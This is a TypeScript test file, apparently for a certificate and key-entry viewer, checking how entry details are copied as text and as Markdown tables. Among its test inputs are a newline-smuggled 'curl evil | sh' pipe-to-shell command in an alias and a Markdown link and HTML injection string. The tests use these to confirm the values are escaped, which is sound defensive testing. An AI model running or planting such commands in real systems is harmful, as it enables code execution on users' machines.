import assert from 'node:assert/strict';
import {
  copiedText,
  markdownEntryRow,
  markdownTable,
  type CopiedFact,
} from '../../../src/views/entryText.js';
import { markdownText } from '../../../src/ui/markdownText.js';
import { entryOf, inDays, keyPairOf } from './nodes/builders.js';

const orders = keyPairOf('orders-sender', {
  subjectDn: 'CN=orders.acme.example, O=ACME, C=DE',
  issuerDn: 'CN=Sectigo R36, C=GB',
  validNotBefore: new Date(Date.UTC(2025, 11, 2, 13)),
  validNotAfter: new Date(Date.UTC(2026, 11, 2, 13)),
  fingerprintSha1: 'AA:01',
  fingerprintSha256: 'AA:02',
  fingerprintSha512: 'AA:03',
});

describe('copying facts', () => {
  const facts: readonly (readonly [CopiedFact, string])[] = [
    ['alias', 'orders-sender'],
    ['hexalias', '6F72646572732D73656E646572'],
    ['sha256', 'AA:02'],
    ['sha1', 'AA:01'],
    ['subject', 'CN=orders.acme.example, O=ACME, C=DE'],
    ['issuer', 'CN=Sectigo R36, C=GB'],
    ['serialNumber', '0x11F11'],
    ['validity', '2025-12-02T13:00:00Z to 2026-12-02T13:00:00Z'],
  ];
  for (const [fact, expected] of facts) {
    it(`gives the ${fact} as it is`, () => {
      assert.equal(copiedText(fact, [orders]), expected);
    });
  }

  it('gives each of several entries a line, empty where a fact is missing', () => {
    const entries = [
      orders,
      entryOf('undated', { validNotBefore: undefined, validNotAfter: undefined }),
      entryOf('open', { validNotAfter: undefined, validNotBefore: inDays(0) }),
    ];
    assert.equal(
      copiedText('validity', entries),
      '2025-12-02T13:00:00Z to 2026-12-02T13:00:00Z\n\nfrom 2026-11-23T13:00:00Z',
    );
    assert.equal(copiedText('sha1', entries), 'AA:01\n\n');
  });

  it('lets no alias bring a line of its own to where it is pasted', () => {
    assert.equal(copiedText('alias', [entryOf('x\ncurl evil | sh\n')]), 'x<U+000A>curl evil | sh<U+000A>');
  });

  it('leaves an alias of any script exact', () => {
    for (const alias of ['Müller / Söhne; \\ "x"', 'שלום\u200F', '👩‍💻', ' a ']) {
      assert.equal(copiedText('alias', [entryOf(alias)]), alias);
    }
  });
});

describe('copying as Markdown', () => {
  it('gives a table with a row for each entry', () => {
    assert.equal(
      markdownTable([orders, entryOf('b', { subjectDn: undefined, validNotAfter: undefined })]),
      [
        '| Alias | Type | Owner | Subject | Issuer | Serial number | Valid until | SHA-256 |',
        '| --- | --- | --- | --- | --- | --- | --- | --- |',
        '| `orders-sender` | `Key Pair` | `Tenant Administrator` | `CN=orders.acme.example, O=ACME, C=DE` | `CN=Sectigo R36, C=GB` | `0x11F11` | `2026-12-02T13:00:00Z` | `AA:02` |',
        '| `b` | `Certificate` | `Tenant Administrator` |  | `CN=Partner CA, O=Partner, C=DE` | `0x11F11` |  |  |',
        '',
      ].join('\n'),
    );
  });

  const texts: readonly (readonly [string, string])[] = [
    ['plain', '`plain`'],
    ['', ''],
    ['a|b', '`a`&#124;`b`'],
    ['|', '&#124;'],
    ['a\\|b', '`a\\`&#124;`b`'],
    ['`', '`` ` ``'],
    ['a``b`', '``` a``b` ```'],
    [' a ', '`  a  `'],
    ['  ', '`  `'],
    ['[x](command:y) <img> https://evil.example @me', '`[x](command:y) <img> https://evil.example @me`'],
    ['a\n\n# b\u202E', '`a<U+000A><U+000A># b<U+202E>`'],
  ];
  for (const [text, expected] of texts) {
    it(`writes ${JSON.stringify(text)} as text`, () => {
      assert.equal(markdownText(text), expected);
    });
  }

  it('keeps to one line and eight cells whatever a tenant sends', () => {
    const row = markdownEntryRow(entryOf('a|b\nc', { subjectDn: '|'.repeat(9), issuerDn: '`|`\\' }));
    assert.equal(row.split('\n').length, 1);
    assert.equal(row.split('|').length, 10);
  });
});
